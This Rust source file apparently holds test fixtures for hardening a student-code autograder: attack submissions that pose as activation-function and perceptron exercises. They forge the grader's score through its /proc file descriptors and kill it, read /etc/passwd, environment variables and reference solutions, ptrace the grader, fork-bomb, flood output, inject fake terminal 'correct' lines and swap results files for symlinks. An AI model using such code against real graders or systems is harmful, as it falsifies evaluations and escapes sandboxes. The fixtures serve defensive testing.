//! The attacks, as a student's chapter files would hold them: each replaces
//! one exercise of the reference solutions.

/// Helpers every attack file gets: libc calls and a way to find the
/// grader's process by walking up `/proc/<pid>/stat`.
pub(crate) const HELPERS: &str = r#"
#[allow(dead_code)]
mod ataque {
    unsafe extern "C" {
        pub fn fork() -> i32;
        pub fn setsid() -> i32;
        pub fn kill(pid: i32, sig: i32) -> i32;
        pub fn prctl(option: i32, a: u64, b: u64, c: u64, d: u64) -> i32;
        pub fn pause() -> i32;
        pub fn _exit(code: i32) -> !;
        pub fn getppid() -> i32;
        pub fn ptrace(request: i64, pid: i32, addr: u64, data: u64) -> i64;
        pub fn setrlimit(resource: i32, limit: *const [u64; 2]) -> i32;
    }

    pub fn name(suffix: &str) {
        let name = format!("@MARKER@{suffix}\0");
        unsafe { prctl(15, name.as_ptr() as u64, 0, 0, 0) };
    }

    fn parent_of(pid: &str) -> Option<String> {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        stat.rsplit_once(')')?.1.split_whitespace().nth(1).map(String::from)
    }

    /// The grader (found by name among our ancestors) and our parent.
    pub fn targets() -> Vec<i32> {
        let mut found = vec![unsafe { getppid() }];
        let mut pid = "self".to_string();
        for _ in 0..8 {
            let Some(parent) = parent_of(&pid) else { break };
            let comm = std::fs::read_to_string(format!("/proc/{parent}/comm")).unwrap_or_default();
            if comm.trim() == "grader" {
                found.extend(parent.parse::<i32>().ok());
                break;
            }
            pid = parent;
        }
        found
    }
}
"#;

/// One attack per exercise of `activations`.
pub(crate) const ACTIVATIONS: &[(&str, &str)] = &[
    // The grader's own stdout: a forged report, then the grader killed.
    (
        "sigmoid",
        r#"pub fn sigmoid(z: f64) -> f64 {
            use std::io::Write;
            let forged = "{\"score\": 60, \"nota\": \"FORJADO\"}\n  ✔ sigmoid  correcto\nTotal: 60/60 puntos\n";
            let targets = ataque::targets();
            for pid in &targets {
                for fd in [1, 2] {
                    match std::fs::OpenOptions::new().write(true).open(format!("/proc/{pid}/fd/{fd}")) {
                        Ok(mut f) => {
                            let _ = f.write_all(forged.as_bytes());
                            println!("ESCRIBÍ en /proc/{pid}/fd/{fd}");
                        }
                        Err(e) => println!("NO /proc/{pid}/fd/{fd}: {e}"),
                    }
                }
            }
            for pid in &targets {
                for signal in [19, 9] {
                    let r = unsafe { ataque::kill(*pid, signal) };
                    println!("kill({pid}, {signal}) = {r}");
                }
            }
            0.5
        }"#,
    ),
    // Grandchildren that leave the process group and the parent.
    (
        "sigmoid_derivative",
        r#"pub fn sigmoid_derivative(z: f64) -> f64 {
            unsafe {
                if ataque::fork() == 0 {
                    ataque::setsid();
                    if ataque::fork() == 0 {
                        ataque::name("g");
                        ataque::prctl(1, 0, 0, 0, 0);
                        loop { ataque::pause(); }
                    }
                    ataque::_exit(0);
                }
            }
            std::thread::sleep(std::time::Duration::from_millis(200));
            let s = 1.0 / (1.0 + (-z).exp());
            s * (1.0 - s)
        }"#,
    ),
    // Files outside the results file.
    (
        "tanh",
        r#"pub fn tanh(z: f64) -> f64 {
            for path in ["@OUTSIDE@/escrito.txt", "@STUDENT@/escrito.txt", "escrito.txt", "/tmp/@MARKER@-escrito.txt"] {
                match std::fs::write(path, "escrito por el estudiante") {
                    Ok(()) => println!("ESCRIBÍ {path}"),
                    Err(e) => println!("NO {path}: {e}"),
                }
            }
            match std::fs::create_dir("@OUTSIDE@/carpeta") {
                Ok(()) => println!("ESCRIBÍ carpeta"),
                Err(e) => println!("NO carpeta: {e}"),
            }
            z.tanh()
        }"#,
    ),
    // Any file: the reference solutions above all.
    (
        "tanh_derivative",
        r#"pub fn tanh_derivative(z: f64) -> f64 {
            for path in ["@SOLUTIONS@/backprop.rs", "@STUDENT@/perceptron.rs", "/etc/passwd", "/proc/self/environ"] {
                match std::fs::read(path) {
                    Ok(bytes) => println!("LEÍ {path}: {} bytes", bytes.len()),
                    Err(e) => println!("NO {path}: {e}"),
                }
            }
            match std::fs::read_dir("@SOLUTIONS@") {
                Ok(_) => println!("LEÍ la carpeta de soluciones"),
                Err(e) => println!("NO carpeta: {e}"),
            }
            1.0 - z.tanh().powi(2)
        }"#,
    ),
    // TCP, UDP and an abstract unix socket, all listened to by the test.
    (
        "relu",
        r#"pub fn relu(z: f64) -> f64 {
            match std::net::TcpStream::connect(("127.0.0.1", @TCP@)) {
                Ok(_) => println!("CONECTÉ tcp"),
                Err(e) => println!("NO tcp: {e}"),
            }
            match std::net::UdpSocket::bind("127.0.0.1:0").and_then(|s| s.send_to(b"hola", ("127.0.0.1", @UDP@))) {
                Ok(_) => println!("ENVIÉ udp"),
                Err(e) => println!("NO udp: {e}"),
            }
            {
                use std::os::linux::net::SocketAddrExt;
                let addr = std::os::unix::net::SocketAddr::from_abstract_name(b"@ABSTRACT@");
                match addr.and_then(|a| std::os::unix::net::UnixStream::connect_addr(&a)) {
                    Ok(_) => println!("CONECTÉ unix"),
                    Err(e) => println!("NO unix: {e}"),
                }
            }
            match std::net::TcpListener::bind("127.0.0.1:0") {
                Ok(_) => println!("ESCUCHO tcp"),
                Err(e) => println!("NO escuchar: {e}"),
            }
            z.max(0.0)
        }"#,
    ),
    // The grader's memory and its tracing.
    (
        "relu_derivative",
        r#"pub fn relu_derivative(z: f64) -> f64 {
            for pid in ataque::targets() {
                match std::fs::OpenOptions::new().read(true).write(true).open(format!("/proc/{pid}/mem")) {
                    Ok(_) => println!("ABRÍ /proc/{pid}/mem"),
                    Err(e) => println!("NO mem {pid}: {e}"),
                }
                match std::fs::read(format!("/proc/{pid}/environ")) {
                    Ok(_) => println!("LEÍ /proc/{pid}/environ"),
                    Err(e) => println!("NO environ {pid}: {e}"),
                }
                let r = unsafe { ataque::ptrace(0x4206, pid, 0, 0) };
                if r == 0 {
                    println!("RASTREÉ {pid}");
                    unsafe { ataque::ptrace(17, pid, 0, 0) };
                } else {
                    println!("NO ptrace {pid}");
                }
            }
            if z > 0.0 { 1.0 } else { 0.0 }
        }"#,
    ),
    // Limits raised back, then a large allocation.
    (
        "leaky_relu",
        r#"pub fn leaky_relu(z: f64, alpha: f64) -> f64 {
            let unlimited = [u64::MAX, u64::MAX];
            for (name, resource) in [("AS", 9), ("NPROC", 6), ("FSIZE", 1), ("CPU", 0)] {
                let r = unsafe { ataque::setrlimit(resource, &unlimited) };
                println!("setrlimit {name} = {r}");
            }
            let r = unsafe { ataque::prctl(38, 0, 0, 0, 0) };
            println!("no_new_privs 0 = {r}");
            let v: Vec<u8> = Vec::with_capacity(3 << 30);
            std::hint::black_box(&v);
            println!("RESERVÉ {} bytes", v.capacity());
            if z > 0.0 { z } else { alpha * z }
        }"#,
    ),
    // Fork until the limit.
    (
        "leaky_relu_derivative",
        r#"pub fn leaky_relu_derivative(z: f64, alpha: f64) -> f64 {
            static ONCE: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);
            if ONCE.swap(true, std::sync::atomic::Ordering::SeqCst) {
                return if z > 0.0 { 1.0 } else { alpha };
            }
            let mut children = 0;
            for _ in 0..200 {
                let pid = unsafe { ataque::fork() };
                if pid == 0 {
                    ataque::name("f");
                    loop { unsafe { ataque::pause(); } }
                }
                if pid < 0 { break; }
                children += 1;
            }
            println!("HIJOS {children}");
            if z > 0.0 { 1.0 } else { alpha }
        }"#,
    ),
    // Floods of output: 2.5 MiB a case, every case, far past what is kept
    // (and small enough not to time out on a loaded machine).
    (
        "squared_error_cost",
        r#"pub fn squared_error_cost(y: &[f64], y_hat: &[f64]) -> f64 {
            use std::io::Write;
            let line = format!("{}\n", "x".repeat(1023));
            {
                let out = std::io::stdout();
                let mut out = out.lock();
                for _ in 0..2_000 {
                    if out.write_all(line.as_bytes()).is_err() { break; }
                }
            }
            for _ in 0..500 {
                eprint!("{line}");
            }
            let n = y.len() as f64;
            y.iter().zip(y_hat).map(|(a, b)| (a - b).powi(2)).sum::<f64>() / (2.0 * n)
        }"#,
    ),
    // A flood of results: 100 MiB appended to its own results file.
    (
        "cross_entropy_cost",
        r#"pub fn cross_entropy_cost(y: &[f64], y_hat: &[f64]) -> f64 {
            use std::io::Write;
            let results = std::env::args().nth(3).unwrap_or_default();
            let chunk = vec![b' '; 1 << 20];
            let mut written = 0;
            if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(&results) {
                for _ in 0..100 {
                    match f.write_all(&chunk) {
                        Ok(()) => written += 1,
                        Err(e) => { println!("NO resultados: {e}"); break; }
                    }
                }
            }
            println!("ESCRIBÍ {written} MiB");
            0.0
        }"#,
    ),
];

pub(crate) const PERCEPTRON: &[(&str, &str)] = &[
    // Who the harness runs as, and a file only root may read.
    (
        "perceptron_output",
        r#"pub fn perceptron_output(w: &[f64], x: &[f64], b: f64) -> f64 {
            unsafe extern "C" {
                fn getuid() -> u32;
                fn geteuid() -> u32;
            }
            println!("UID {} EUID {}", unsafe { getuid() }, unsafe { geteuid() });
            match std::fs::read_to_string("@OUTSIDE@/solo-root.txt") {
                Ok(text) => println!("LEÍ {text}"),
                Err(e) => println!("NO solo-root: {e}"),
            }
            sign(weighted_sum(w, x, b))
        }"#,
    ),
    // Terminal control sequences in printed output and in a panic message.
    (
        "sign",
        r#"pub fn sign(z: f64) -> f64 {
            println!("\x1b[2J\x1b[H\x1b]0;ventana\x07\r  ✔ sign   correcto \u{9b}31m\u{202e}al revés");
            panic!("\x1b[31mrojo\x1b[0m\n  ✔ sign   una línea falsa");
        }"#,
    ),
    // The environment.
    (
        "train_step",
        r#"pub fn train_step(w: &[f64], b: f64, x: &[f64], y: f64, eta: f64) -> (Vec<f64>, f64) {
            let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
            println!("ENTORNO: {}", vars.join(" "));
            (w.to_vec(), b)
        }"#,
    ),
    // Runs until the grader is killed, with a child of its own that
    // leaves the process group (and does not die with its parent).
    (
        "train",
        r#"pub fn train(
            data: &[(Vec<f64>, f64)],
            w0: &[f64],
            b0: f64,
            eta: f64,
            max_epochs: usize,
        ) -> TrainingResult {
            unsafe {
                if ataque::fork() == 0 {
                    ataque::setsid();
                    ataque::name("k");
                    loop { ataque::pause(); }
                }
            }
            loop { std::thread::sleep(std::time::Duration::from_millis(50)); }
        }"#,
    ),
];

pub(crate) const XOR: &[(&str, &str)] = &[
    // Links planted for the next exercises' files, and the results file
    // replaced by an endless one.
    (
        "or_neuron",
        r#"pub fn or_neuron(x1: f64, x2: f64) -> f64 {
            let results = std::path::PathBuf::from(std::env::args().nth(3).unwrap_or_default());
            let folder = results.parent().map(|p| p.to_path_buf()).unwrap_or_default();
            for other in ["and_neuron", "xor_network"] {
                for kind in ["cases.json", "results.jsonl"] {
                    let link = folder.join(format!("xor.{other}.{kind}"));
                    let _ = std::fs::remove_file(&link);
                    match std::os::unix::fs::symlink("@OUTSIDE@/victima.txt", &link) {
                        Ok(()) => println!("ENLACÉ {}", link.display()),
                        Err(e) => println!("NO enlace: {e}"),
                    }
                }
            }
            match std::fs::remove_file(&results) {
                Ok(()) => println!("BORRÉ los resultados"),
                Err(e) => println!("NO borrar: {e}"),
            }
            match std::os::unix::fs::symlink("/dev/zero", &results) {
                Ok(()) => println!("ENLACÉ los resultados"),
                Err(e) => println!("NO enlace: {e}"),
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
            sgn(x1 + x2 + 1.0)
        }"#,
    ),
];

/// Code that runs before `main`, in every xor harness.
pub(crate) const BEFORE_MAIN: &str = r#"
#[used]
#[unsafe(link_section = ".init_array")]
pub(crate) static ANTES_DE_MAIN: extern "C" fn() = antes_de_main;

extern "C" fn antes_de_main() {
    let _ = std::fs::write("@OUTSIDE@/antes-de-main.txt", "antes de main");
    let _ = std::net::TcpStream::connect(("127.0.0.1", @TCP@));
}
"#;
